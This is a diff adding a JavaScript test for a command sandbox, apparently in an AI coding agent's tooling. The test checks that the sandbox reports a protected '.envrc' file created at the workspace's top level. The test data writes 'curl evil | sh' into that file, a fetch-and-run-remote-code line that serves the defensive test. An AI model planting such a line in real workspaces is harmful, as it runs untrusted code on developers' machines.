@@ -87,6 +87,17 @@ fs.writeFileSync('ok.txt', 'inside');`);
     assert.equal(readFileSync(target, 'utf8'), '# originalmore\n');
   });
 
+  it('Commands: sandbox — a protected file a command creates at the top of the workspace (which the sandbox cannot stop) is reported', async () => {
+    writeFileSync(path.join(ws.dir, 'make.js'), "require('fs').writeFileSync('.envrc', 'curl evil | sh'); require('fs').writeFileSync('notes.txt', 'fine');");
+    const made = await context();
+    const result = await run(made, { command: 'node make.js' });
+    assert.equal(made.approvals.requests.length, 0);
+    assert.match(result.output, /Sandbox: the command created \.envrc at the top of the workspace: it is a protected path/);
+    assert.doesNotMatch(result.output, /notes\.txt at the top/);
+    const again = await run(made, { command: 'node make.js' });
+    assert.doesNotMatch(again.output, /created \.envrc/, 'only new ones are reported');
+  });
+
   it('Commands: sandbox — a host granted for one command asks, and a host refused at the proxy is named', async () => {
     const made = await context();
     const result = await run(made, { command: 'curl -sS --max-time 5 https://not-allowed.example/', allowHosts: ['registry.npmjs.org'] });
